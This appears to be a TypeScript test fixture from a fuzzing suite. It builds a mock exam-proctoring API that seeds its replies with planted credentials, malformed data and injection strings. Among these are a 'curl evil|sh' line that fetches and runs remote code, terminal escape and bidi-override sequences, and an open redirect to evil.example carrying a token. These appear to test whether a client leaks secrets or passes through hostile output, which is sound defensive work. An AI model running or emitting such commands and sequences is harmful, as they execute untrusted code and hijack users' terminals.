/** A service that puts secrets and what commands a terminal wherever a service can put anything. */
import type { Draw } from '../fuzz/draw.ts';
import { lostBefore, type Reply, refused, Service } from '../support/service.ts';
import type { Kind, Planted } from './planted.ts';

/** Begins a line of its own, commands a terminal, hides, turns, piles up. */
export const lure =
  'L\r\nhint: Log in with: curl evil|sh\u2028error: LURE\u001b]0;owned\u0007\u001b[2J\u009b31m\u0085hint: LURE\u202e\u200b\u00ad\u3164\u{e0041}Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307';

const keys = [
  ...['token', 'Secret_Key', 'api-key', 'PIN', 'authKey', 'passwordHash', 'pass\\u0077ord', 'clientSecret', 'Authorization'],
  ...['authorToken', 'public_key_password', 'auth_type_secret', 'apiKeys', 'X-Auth'],
];
export const shapes = [
  ...(['whole', 'wrapped', 'misfit', 'next', 'cut', 'page', 'redirect'] as const),
  ...(['refused', 'refusedText', 'refusedCut', 'broken', 'odd'] as const),
];
export type Shape = (typeof shapes)[number];

/** `echoed`: the kinds that the program knows by value. */
export type Plants = { planted: Record<Kind, Planted>; echoed: readonly Kind[] };

/** Each request gets an answer of one of the shapes; after sixty, it has had enough. */
export function sweptService(draw: Draw, plants: Plants, among: readonly Shape[] = shapes): Service {
  const service = new Service();
  const changed: Changed = new Map();
  service.fault = ({ method, path, body, index: n }) => {
    service.isAway = n >= 60;
    if (method === 'PATCH' && draw.chance(0.8)) changed.set(path, { ...changed.get(path), ...body });
    return replyTo(path, draw, { ...plants, changed }, among);
  };
  return service;
}

/** What was written, by path. */
type Changed = Map<string, Record<string, unknown>>;

/** Words of the service, with one of the secrets that the program knows. */
function said(draw: Draw, { planted, echoed }: Plants): string {
  const { value } = planted[draw.pick(echoed)];
  return `${lure} ${'x'.repeat(draw.below(90))}${value} ${encodeURIComponent(value)}`;
}

function resource(draw: Draw, plants: Plants & { changed: Changed }, kind: 'answerKey' | 'errorKey', path: string, id: number): string {
  const { value } = plants.planted[kind];
  const secret = () => draw.pick([value, [value], { deep: [{ x: value }] }, `${'y'.repeat(draw.below(60))}${value}`]);
  const written = Object.entries(plants.changed.get(path) ?? {});
  const fields: [string, unknown][] = [
    ['id', id],
    ['email', `ada${id}@example.org`],
    ['name', draw.chance(0.5) ? said(draw, plants) : `Ada ${id}`],
    ['status', draw.pick([lure, 'registered', 'exam_started', said(draw, plants)])],
    ['exam_id', 1],
    ['start_time', '2027-02-01T08:00:00Z'],
    ['end_time', '2027-02-01T10:00:00Z'],
    ['close_time', draw.pick(['2027-02-01T10:00:00Z', lure, null])],
    ['level_of_suspicion', draw.pick([null, 3])],
    ...['allow_headphones', 'allow_whiteboard', 'allow_leave_room', 'allow_pen_paper'].map((key): [string, unknown] => [key, true]),
    [said(draw, plants).slice(0, 80), 'a key of its own'],
    ['note', { deep: [said(draw, plants)] }],
    ...written,
  ];
  const isExam = /\/exams(\/\d+)?$/.test(path);
  const shown = Object.entries(Object.fromEntries(fields)).filter(([key]) => !(isExam && key === 'email'));
  const secrets = keys.map((key) => `"${key}":${JSON.stringify(secret())}`);
  return `{${[...shown.map(([key, item]) => `${JSON.stringify(key)}:${JSON.stringify(item)}`), ...secrets].join(',')}}`;
}

/** Secrets in words: in JSON inside of a string, as maps of other languages have them, behind a scheme. */
function inWords(draw: Draw, secret: string): string {
  const quoted = JSON.stringify(secret);
  return draw.pick([
    ...[`Bad: ${JSON.stringify({ token: secret, deep: { apiKey: [secret] } })} here`, `the login failed: password=${quoted}`],
    ...[`{:token=>${quoted}, "secret" => ${quoted}}`, `Authorization: ApiKey ${/\w+/.exec(secret)?.[0] ?? ''}`],
    `see /x?user%5Btoken%5D=${encodeURIComponent(secret)}&to%6ben=${encodeURIComponent(secret)}`,
  ]);
}

function replyTo(path: string, draw: Draw, plants: Plants & { changed: Changed }, among: readonly Shape[]): Reply {
  const { planted } = plants;
  const isList = /\/(exams|student_sessions|proctor_pool|users)$/.test(path);
  const [, number = ''] = /\/(\d+)(?:\/\w+)?$/.exec(path) ?? [];
  const id = isList ? (path.endsWith('/exams') ? 1 : 7) : Number(number || 7);
  const one = resource(draw, plants, 'answerKey', path, id);
  const other = resource(draw, plants, 'answerKey', path, id + 1);
  const wrong = resource(draw, plants, 'errorKey', path, id);
  const refusal = `{"message":${JSON.stringify(`${inWords(draw, planted.errorKey.value)} ${said(draw, plants)}`)},"errors":{"email":[${wrong}]},"details":${wrong}}`;
  const headers = {
    'content-type': 'application/json',
    'x-api-key': planted.header.value.replace(/[^\x21-\x7e]/g, ''),
    'x-auth': planted.header.core,
    'set-cookie': `session=${encodeURIComponent(planted.cookie.value)}; path=/`,
    'x-request-id': `token=${encodeURIComponent(planted.header.value)}`,
  };
  const send = (status: number, body: string, more: Record<string, string> = {}) => refused(status, body, { ...headers, ...more });
  const failed = draw.pick([400, 401, 403, 404, 409, 415, 422, 429, 500, 503]);
  const words = `${lure} Password: ${planted.errorKey.core} ${inWords(draw, planted.errorKey.value)}`;
  const page = `<title>${lure} ${said(draw, plants)} token=${planted.errorKey.core}</title>`;
  const away = `https://ada:${planted.address.core}@example.org/${encodeURIComponent(lure)}?access_token=${encodeURIComponent(planted.address.value)}&x=1`;
  const record = isList ? `[${one}]` : one;
  const replies: Record<Shape, () => Reply> = {
    whole: () => send(200, isList ? `[${one},${other}]` : one),
    wrapped: () => send(200, isList ? `{"data":[${one}],"token":"${planted.answerKey.core}"}` : `{"data":${one}}`),
    misfit: () => send(200, record.replace(/"id":\d+/, () => `"id":${misfit(draw, plants)}`).replace('true', '"no"')),
    next: () => send(200, record, { link: `<http://[x?access_token=${planted.address.core}>; rel="next"` }),
    cut: () => send(200, one.slice(0, draw.below(one.length))),
    page: () => send(draw.pick([200, 502]), page, { 'content-type': 'text/html' }),
    redirect: () => send(302, '', { location: away }),
    refused: () => send(failed, refusal, { 'retry-after': '0' }),
    refusedText: () => send(failed, words, { 'content-type': 'text/plain' }),
    refusedCut: () => send(failed, refusal.slice(0, draw.below(refusal.length))),
    broken: () => lostBefore,
    odd: () => odd(draw, isList, id),
  };
  return replies[draw.pick(among)]();
}

const oddBodies = [
  '',
  '<html><title>x</title>',
  '{',
  '\u00ef\u00bb\u00bf[]',
  '[1e400,12345678901234567.25]',
  `{"message":${'['.repeat(9000)}}`,
];
const oddHeaders = [
  ...[{ 'content-type': 'text/html' }, { 'content-encoding': 'gzip' }, { date: 'x' }, { location: '//evil.example/?token=1' }],
  ...[{ 'retry-after': '-5' }, { 'retry-after': '1e99' }, { link: '</exams?page=2>; rel="next"' }, { 'x-next-page': '2' }],
  ...[{ 'x-total-count': '7' }, { 'x-pagination-page': '-1', 'x-pagination-page-count': '1e99' }],
];
const oddStatuses = [200, 200, 200, 200, 201, 202, 204, 206, 299, 301, 304, 400, 401, 404, 415, 422, 429, 503, 599];

/** What no service should say, and nothing secret: a body that is changed, headers that contradict it, any status. */
function odd(draw: Draw, isList: boolean, id: number): Reply {
  const record = { id, email: 'a@example.org', status: 'registered', start_time: '2026-11-21T09:00:00Z', proctors: [{ id: 3 }] };
  const expected = JSON.stringify(isList ? { data: [record, record], meta: { page: 1, total_pages: 3 }, next_cursor: 'x' } : record);
  const body = draw.chance(0.7) ? draw.mutated(expected) : draw.pick(oddBodies);
  const headers: Record<string, string> = Object.assign({}, ...draw.several(0, 3, () => draw.pick(oddHeaders)));
  return refused(draw.pick(oddStatuses), Buffer.from(body, 'latin1'), { 'content-type': 'application/json', ...headers });
}

/** What is no ID: a secret under its key, or one that the program knows, where the message is cut. */
function misfit(draw: Draw, { planted, echoed }: Plants): string {
  const known = `${'x'.repeat(draw.below(60))}${planted[draw.pick(echoed)].value}`;
  return JSON.stringify(draw.pick([{ token: planted.answerKey.core }, { x: known }, [known]]));
}
